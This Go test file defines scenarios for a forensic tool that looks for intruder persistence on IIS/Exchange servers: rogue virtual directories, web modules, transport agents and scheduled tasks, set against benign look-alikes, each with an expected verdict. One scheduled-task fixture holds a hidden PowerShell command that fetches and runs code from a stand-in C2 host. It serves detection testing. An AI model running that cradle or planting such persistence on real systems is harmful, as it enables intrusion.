package lab

// settingsScenarios are about what an intruder leaves in settings: a folder
// that IIS serves, a module, a transport agent, a task. A setting alone is at
// most a reason to look; after a break-in it is told as what came after.
func settingsScenarios() []Scenario {
	c := &chapter{chain: "settings"}
	p := play{day: "2025-11-05", build: Build{15, 2, 1748, 39}}
	quiet := func(acts func(s *server)) play {
		q := p
		q.acts = acts
		return q
	}
	intrusion := func(acts func(s *server)) play {
		return quiet(func(s *server) {
			s.created(p.at("12:01:00.500"), worker, plainDisk, 6832)
			s.placed("inetpub/wwwroot"+plainPage, plainShell())
			s.useShell(p.at("12:02:00.100"), plainPage, intruder)
			acts(s)
		})
	}
	after := func(steps ...string) ServerWant {
		w := compromised(p.won("webshell", "compromised", "shell-file", "12:01:00.500", "12:01:00.500", "12:02:30.100", intruder))
		w.After = steps
		return w
	}
	alone := suspicious()
	alone.After = []string{}
	for _, story := range []struct {
		name, step, says string
		acts             func(s *server)
	}{
		{"folder", "virtual-directory", "IIS serves a folder with the name of a device, right below ProgramData", func(s *server) {
			s.placed(hostSettings, iisSettings{folders: [][2]string{{"/owa/auth/cur", `C:\ProgramData\COM1\zing`}}}.xml())
		}},
		{"module", "web-module", "IIS loads a library that lies among its own and is none of them", func(s *server) {
			s.placed(hostSettings, iisSettings{modules: [][2]string{{"HttpCacheModule2", `%windir%\System32\inetsrv\cachhttp2.dll`}}}.xml())
		}},
		{"agent", "transport-agent", "A transport agent without a maker lies among Exchange's own", func(s *server) {
			s.placed(agentList, transportAgents([3]string{"Security Interop Agent", "Interop.AgentFactory", productDir + `TransportRoles\agents\Hygiene\Interop.dll`}))
		}},
		{"task", "scheduled-task", "A task starts a program in the public folder as the system", func(s *server) {
			s.placed(taskFolder+"Sync", scheduledTask(`\Sync`, p.day+"T12:30:00", "S-1-5-18", `C:\Users\Public\opera\opera_browser.exe`, ""))
		}},
	} {
		c.tell(KindFull, story.name, story.says+", after a web shell was used there.", intrusion(story.acts).evidence(whole), after("command", story.step))
		c.tell(KindPartial, story.name+"-alone", story.says+"; nothing else is seen, so a person must look.", quiet(story.acts).evidence(whole), alone)
	}
	c.tell(KindFull, "all", "All four are left, the task with a command that fetches code.", intrusion(func(s *server) {
		s.placed(hostSettings, iisSettings{folders: [][2]string{{"/test", `C:\Users\All Users\WHO`}}, modules: [][2]string{{"UpData", `C:\Windows\Temp\updata.dll`}}}.xml())
		s.placed(agentList, transportAgents([3]string{"Content Filter Agent", "Filter.Factory", `C:\ProgramData\filter.dll`}))
		s.placed(taskFolder+"Microsoft/Windows/WinNet", scheduledTask(`\Microsoft\Windows\WinNet`, p.day+"T13:00:00", "S-1-5-18", "cmd.exe", `/c powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.lab.example/a')"`))
	}).evidence(whole), after("command", "virtual-directory", "web-module", "transport-agent", "scheduled-task"))
	c.tell(KindPartial, "task-before", "The task was registered a year before the break-in, so it is no part of it.", intrusion(func(s *server) {
		s.placed(taskFolder+"Sync", scheduledTask(`\Sync`, "2024-11-01T12:30:00", "S-1-5-18", `C:\Users\Public\tools\sync.exe`, ""))
	}).evidence(whole), after("command"))
	c.tell(KindMissing, "torn", "The host configuration ends in the middle; what stands before the end is read.", intrusion(func(s *server) {
		b := iisSettings{folders: [][2]string{{"/z", `C:\ProgramData\ZING`}}}.xml()
		s.placed(hostSettings, b[:len(b)*3/4])
	}).evidence(whole), after("command", "virtual-directory"))
	ordinary := nothingFound()
	ordinary.After = []string{}
	c.tell(KindBenign, "own-folders", "An administrator serves certificates' proofs, downloads from another disk and an own site.", quiet(func(s *server) {
		s.placed(hostSettings, iisSettings{folders: [][2]string{{"/.well-known", `C:\inetpub\wwwroot\.well-known`}, {"/downloads", `D:\Downloads`}}, sites: [][2]string{{"Intranet", `D:\Sites\intranet`}}}.xml())
	}).evidence(whole), ordinary)
	c.tell(KindBenign, "add-on-modules", "Microsoft's rewriting, a monitoring product and a load balancer add modules.", quiet(func(s *server) {
		s.placed(hostSettings, iisSettings{modules: [][2]string{{"RewriteModule", `%SystemRoot%\system32\inetsrv\rewrite.dll`}, {"OneAgent", `C:\Program Files\dynatrace\oneagent\agent\lib64\oneagentloader.dll`}, {"F5XFFHttpModule", `C:\HttpModules\F5XFFHttpModule\x64\F5XFFHttpModule.dll`}}}.xml())
	}).evidence(whole), ordinary)
	c.tell(KindBenign, "add-on-agents", "A signature product and a signer of mail add transport agents.", quiet(func(s *server) {
		s.placed(agentList, transportAgents([3]string{"CodeTwo Exchange Rules", "CodeTwo.ExchangeRules.AgentFactory", `C:\Program Files\CodeTwo\CodeTwo Exchange Rules\Agent.dll`},
			[3]string{"Exchange DkimSigner", "Exchange.DkimSigner.DkimSigningRoutingAgentFactory", `C:\Program Files\Exchange DkimSigner\ExchangeDkimSigner.dll`}))
	}).evidence(whole), ordinary)
	c.tell(KindBenign, "own-tasks", "Windows, its protection, a browser and an administrator have tasks, one of which calls a page every hour.", quiet(func(s *server) {
		made := "2025-03-01T08:00:00"
		s.placed(taskFolder+"Microsoft/Windows/DiskCleanup/SilentCleanup", scheduledTask(`\Microsoft\Windows\DiskCleanup\SilentCleanup`, made, "S-1-5-32-545", `%windir%\system32\cleanmgr.exe`, `/autoclean /d %systemdrive%`))
		s.placed(taskFolder+"Microsoft/Windows/Windows Defender/Windows Defender Cache Maintenance", scheduledTask(`\Microsoft\Windows\Windows Defender\Windows Defender Cache Maintenance`, made, "S-1-5-18", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25020.1009-0\MpCmdRun.exe`, "-IdleTask -TaskName WdCacheMaintenance"))
		s.placed(taskFolder+"GoogleUpdateTaskMachineUA", scheduledTask(`\GoogleUpdateTaskMachineUA`, made, "S-1-5-18", `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "/ua /installsource scheduler"))
		s.placed(taskFolder+"Clean Exchange logs", scheduledTask(`\Clean Exchange logs`, made, `LAB\Administrator`, "powershell.exe", `-NoProfile -ExecutionPolicy Bypass -File "C:\Scripts\CleanLogs.ps1" > C:\Windows\Temp\clean.log`))
		s.placed(taskFolder+"Call page", scheduledTask(`\Call page`, made, `LAB\svc-web`, "powershell.exe", `-Command "Invoke-WebRequest -UseBasicParsing https://intranet.lab.example/cron"`))
		s.placed(taskFolder+"win-acme renew", scheduledTask(`\win-acme renew`, made, "S-1-5-18", `C:\Tools\win-acme\wacs.exe`, `--renew --baseuri "https://acme-v02.api.letsencrypt.org/"`))
	}).evidence(whole), ordinary)
	c.tell(KindBenign, "logging-off", "An administrator switched logging off for one folder: nothing of it is a step, and the report says what cannot be seen.", quiet(func(s *server) {
		s.placed(hostSettings, iisSettings{rest: `<location path="Default Web Site/mapi"><system.webServer><httpLogging dontLog="true" /></system.webServer></location>`}.xml())
	}).evidence(whole), ordinary)
	return c.list
}
